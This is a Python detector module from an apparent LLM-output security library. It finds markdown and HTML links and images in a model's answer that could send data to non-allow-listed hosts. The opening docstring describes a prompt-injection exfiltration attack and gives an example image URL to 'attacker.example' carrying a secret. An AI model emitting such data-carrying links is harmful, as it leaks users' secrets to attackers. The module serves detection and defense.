"""Links and images in an answer that can carry data to an outside host.

A chat UI that renders markdown fetches every image in an answer without a
click; an injected instruction can make the model append
``![](https://attacker.example/p.png?d=<secret>)`` and the secret leaves with
the request. Sources: Rehberger, "Data exfiltration via markdown image
rendering" (Embrace The Red, 2023; reported against Bing Chat, ChatGPT plugins,
Google Bard); Greshake et al., arXiv 2302.12173; OWASP LLM02 (Sensitive
Information Disclosure) and LLM05 (Improper Output Handling); MITRE ATLAS
AML.T0057.

:func:`find_links` finds every link form a markdown or HTML renderer acts on;
:func:`exfiltration_links` keeps those to hosts outside an allow-list that are
images or carry data.
"""

from __future__ import annotations

import html
import re
from bisect import bisect_right
from collections.abc import Iterable
from dataclasses import dataclass
from enum import StrEnum
from urllib.parse import unquote, urlsplit

from ragward.engine.detectors._decode import decode_candidates
from ragward.engine.detectors.canary import find_canary

__all__ = [
    "Link",
    "LinkKind",
    "exfiltration_links",
    "find_links",
    "host_allowed",
    "url_host",
]


class LinkKind(StrEnum):
    """The syntax a link was written in."""

    MARKDOWN_IMAGE = "markdown_image"
    MARKDOWN_LINK = "markdown_link"
    REFERENCE_IMAGE = "reference_image"
    REFERENCE_LINK = "reference_link"
    HTML_IMG = "html_img"
    HTML_A = "html_a"
    AUTOLINK = "autolink"
    BARE_URL = "bare_url"

    @property
    def auto_fetched(self) -> bool:
        """True for images: a renderer fetches them without a click."""
        return self in _IMAGES


_IMAGES = frozenset({LinkKind.MARKDOWN_IMAGE, LinkKind.REFERENCE_IMAGE, LinkKind.HTML_IMG})


@dataclass(frozen=True)
class Link:
    """A link found in a text.

    ``url`` is the target as written (HTML entities decoded); ``host`` its
    lower-case host name without port or user info (``""`` for a relative URL);
    ``span`` the ``[start, end)`` range of the whole link syntax in the text.
    """

    url: str
    host: str
    kind: LinkKind
    span: tuple[int, int]


# Inline markdown: ![alt](url "title") and [text](url "title"); the alt/text may hold
# one level of brackets, the url may be wrapped in <...>.
_INLINE = re.compile(
    r"(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]*\]){0,1000})\]"
    r"\(\s*(<[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
)
# Reference use: ![alt][id], [text][id], ![id][], [id][] and shortcut ![id] / [id].
_REF_USE = re.compile(r"(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]*\]){0,1000})\](?:\[([^\[\]\n]{0,999})\])?")
# Reference definition: [id]: url "title"  (up to 3 spaces of indent).
_REF_DEF = re.compile(
    r"^[ ]{0,3}\[([^\[\]\n]{1,999})\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)"
    r"(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$",
    re.MULTILINE,
)
_TAG = re.compile(r"<([A-Za-z][A-Za-z0-9-]*)(\s(?:[^<>\"']|\"[^\"]{0,4000}\"|'[^']{0,4000}'){0,4000})?/?>")
_ATTR = re.compile(r"([A-Za-z_:][-A-Za-z0-9_:.]*)\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s\"'=<>`]+)")
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^<>\s]+|//[^<>\s]+)>", re.IGNORECASE)
_BARE = re.compile(
    r"(?<![\w/@.-])(?:(?:https?|ftp)://|www\.)[^\s<>\"'`\\]+",
    re.IGNORECASE,
)
_CSS_URL = re.compile(r"url\(\s*['\"]?([^'\")\s]+)['\"]?\s*\)", re.IGNORECASE)

# Attributes a browser fetches on its own, per tag (all reported as html_img).
_FETCHED = {
    "img": ("src", "srcset", "lowsrc", "dynsrc"),
    "image": ("href", "xlink:href"),
    "source": ("src", "srcset"),
    "video": ("src", "poster"),
    "audio": ("src",),
    "iframe": ("src",),
    "embed": ("src",),
    "object": ("data",),
    "input": ("src",),
    "script": ("src",),
    "link": ("href",),
    "track": ("src",),
    "body": ("background",),
    "table": ("background",),
    "td": ("background",),
}
_CLICKED = {"a": ("href",), "area": ("href",), "form": ("action",), "button": ("formaction",)}
_TRAILING = ".,;:!?*_~'\""


def url_host(url: str) -> str:
    """Lower-case host name of ``url`` (``www.`` URLs and ``\\`` separators handled);
    ``""`` for a relative or unparsable URL."""
    candidate = url.strip().replace("\\", "/")
    if candidate.lower().startswith("www."):
        candidate = "http://" + candidate
    try:
        parts = urlsplit(candidate)
        host = parts.hostname or ""
    except ValueError:
        return ""
    return host.rstrip(".").lower()


def _unwrap(url: str) -> str:
    url = url.strip()
    if url.startswith("<") and url.endswith(">"):
        url = url[1:-1]
    return html.unescape(url)


def _ref_id(label: str) -> str:
    return " ".join(label.split()).casefold()


def _trim_bare(url: str) -> str:
    while url and url[-1] in _TRAILING:
        url = url[:-1]
    while url.endswith(")") and url.count(")") > url.count("("):
        url = url[:-1]
    return url


def _html_links(text: str) -> list[Link]:
    out: list[Link] = []
    if "<" not in text:
        return out
    for tag in _TAG.finditer(text):
        name = tag.group(1).lower()
        attrs = tag.group(2) or ""
        fetched, clicked = _FETCHED.get(name, ()), _CLICKED.get(name, ())
        for attr in _ATTR.finditer(attrs):
            attr_name = attr.group(1).lower()
            value = attr.group(2)
            if value[:1] in "\"'":
                value = value[1:-1]
            value = html.unescape(value).strip()
            if attr_name == "style":
                for css in _CSS_URL.finditer(value):
                    url = css.group(1)
                    out.append(Link(url, url_host(url), LinkKind.HTML_IMG, tag.span()))
                continue
            if attr_name in fetched:
                urls = [u.split()[0] for u in value.split(",") if u.strip()]
                if attr_name not in ("srcset",):
                    urls = [value]
                for url in urls:
                    out.append(Link(url, url_host(url), LinkKind.HTML_IMG, tag.span()))
            elif attr_name in clicked:
                out.append(Link(value, url_host(value), LinkKind.HTML_A, tag.span()))
    return out


def find_links(text: str) -> list[Link]:
    """Every link in ``text`` a markdown or HTML renderer would act on, in text order.

    Finds inline markdown images and links, reference-style images and links
    (resolved through their ``[id]: url`` definitions, anywhere in the text;
    a definition nothing uses is reported as a reference link), HTML tags with
    fetched attributes (``img src``/``srcset``, ``video poster``, ``iframe``,
    CSS ``url()``, …, kind ``html_img``) or clicked ones (``a href``, kind
    ``html_a``), ``<https://…>`` autolinks, and bare URLs not inside any of
    those.

    Raises:
        TypeError: ``text`` is not a str.
    """
    if not isinstance(text, str):
        raise TypeError(f"text must be str, not {type(text).__name__}")
    links: list[Link] = []
    taken = _Taken()

    definitions: dict[str, tuple[str, tuple[int, int]]] = {}
    for m in _REF_DEF.finditer(text):
        label = _ref_id(m.group(1))
        definitions.setdefault(label, (_unwrap(m.group(2)), m.span()))
        taken.add(m.span())

    for m in _INLINE.finditer(text):
        url = _unwrap(m.group(3))
        kind = LinkKind.MARKDOWN_IMAGE if m.group(1) else LinkKind.MARKDOWN_LINK
        links.append(Link(url, url_host(url), kind, m.span()))
        taken.add(m.span())

    used: set[str] = set()
    if definitions:
        for m in _REF_USE.finditer(text):
            if taken.covers(m.span()):
                continue
            label = m.group(3) if m.group(3) else m.group(2)
            ref = _ref_id(label)
            if ref not in definitions:
                continue
            url = definitions[ref][0]
            kind = LinkKind.REFERENCE_IMAGE if m.group(1) else LinkKind.REFERENCE_LINK
            links.append(Link(url, url_host(url), kind, m.span()))
            used.add(ref)
    for ref, (url, span) in definitions.items():
        if ref not in used:
            links.append(Link(url, url_host(url), LinkKind.REFERENCE_LINK, span))

    for link in _html_links(text):
        links.append(link)
        taken.add(link.span)
    autolinks = [m for m in _AUTOLINK.finditer(text) if not taken.covers(m.span())]
    for m in autolinks:
        links.append(Link(m.group(1), url_host(m.group(1)), LinkKind.AUTOLINK, m.span()))
        taken.add(m.span())
    for m in _BARE.finditer(text):
        url = _trim_bare(m.group())
        span = (m.start(), m.start() + len(url))
        if url and not taken.covers(span):
            links.append(Link(url, url_host(url), LinkKind.BARE_URL, span))
    links.sort(key=lambda link: (link.span, link.kind))
    return links


class _Taken:
    """Spans already claimed by a link; containment queries in O(log n)."""

    def __init__(self) -> None:
        self._spans: list[tuple[int, int]] = []
        self._starts: list[int] = []
        self._max_ends: list[int] = []
        self._dirty = False

    def add(self, span: tuple[int, int]) -> None:
        self._spans.append(span)
        self._dirty = True

    def covers(self, span: tuple[int, int]) -> bool:
        """True when one claimed span contains ``span``."""
        if self._dirty:
            self._spans.sort()
            self._starts = [s for s, _ in self._spans]
            best, self._max_ends = -1, []
            for _, e in self._spans:
                best = max(best, e)
                self._max_ends.append(best)
            self._dirty = False
        i = bisect_right(self._starts, span[0]) - 1
        return i >= 0 and self._max_ends[i] >= span[1]


def host_allowed(host: str, allowed_hosts: Iterable[str]) -> bool:
    """True when ``host`` is one of ``allowed_hosts`` or a subdomain of one.

    Comparison is case-insensitive and ignores a trailing dot; ``""`` (a
    relative URL, same origin) is always allowed.
    """
    host = host.rstrip(".").lower()
    if not host:
        return True
    for allowed in allowed_hosts:
        a = allowed.strip().rstrip(".").lower()
        if a and (host == a or host.endswith("." + a)):
            return True
    return False


_DATA_SEGMENT = re.compile(r"[A-Za-z0-9+/=_-]{16,}")
_TRANSITION = re.compile(r"(?<=[A-Za-z])(?=[0-9])|(?<=[0-9])(?=[A-Za-z])")


def _data_like(segment: str) -> bool:
    """True for a path segment that looks like encoded data or a token, not a slug."""
    if not _DATA_SEGMENT.fullmatch(segment):
        return False
    compact = re.sub(r"[-_=]", "", segment)
    if len(_TRANSITION.findall(compact)) >= 3:
        return True  # keys, tokens, hex, uuids
    if len(segment) >= 20 and not re.search(r"[-_]", segment):
        decoded = decode_candidates(segment)
        return any(d.encoding == "base64" and d.is_text for d in decoded)
    return False


def _carries_data(url: str) -> bool:
    """True when the URL has a query, a fragment, or a path segment that looks like
    data (a token switching between letters and digits, base64 of text, or 64+ chars)."""
    try:
        parts = urlsplit(url.replace("\\", "/"))
    except ValueError:
        return True
    if parts.query or parts.fragment:
        return True
    return any(_data_like(segment) or len(segment) >= 64 for segment in unquote(parts.path).split("/"))


_SCHEMES = ("http://", "https://", "ftp://", "//", "www.")


def exfiltration_links(text: str, *, allowed_hosts: Iterable[str] = (), canaries: Iterable[str] = ()) -> list[Link]:
    """Links in ``text`` that could send data to a host outside ``allowed_hosts``.

    A link is reported when its host is neither an allowed host nor a
    subdomain of one, and it is an image (fetched without a click), or carries
    data (a query, a fragment, or a path segment that looks like a token,
    hex, a UUID or base64 of text), or holds any of ``canaries`` in any form :func:`find_canary`
    knows (percent-encoded, base64, fragments, …). Relative and non-network
    URLs (``mailto:``, ``data:``) are never reported.

    Args:
        text: an answer (markdown/HTML/plain).
        allowed_hosts: host names whose subdomains are allowed too, e.g. ``"docs.example.com"``.
        canaries: secrets that must never appear in a URL.

    Raises:
        TypeError: ``text`` is not a str, or ``allowed_hosts``/``canaries`` is a single str.
    """
    if isinstance(allowed_hosts, str) or isinstance(canaries, str):
        raise TypeError("allowed_hosts and canaries must be iterables of str, not a str")
    allowed = [h for h in allowed_hosts if isinstance(h, str)]
    secrets = [c for c in canaries if isinstance(c, str) and c]
    out: list[Link] = []
    for link in find_links(text):
        if not link.url.lower().startswith(_SCHEMES) or host_allowed(link.host, allowed):
            continue
        if link.kind.auto_fetched or _carries_data(link.url) or any(find_canary(link.url, c) for c in secrets):
            out.append(link)
    return out
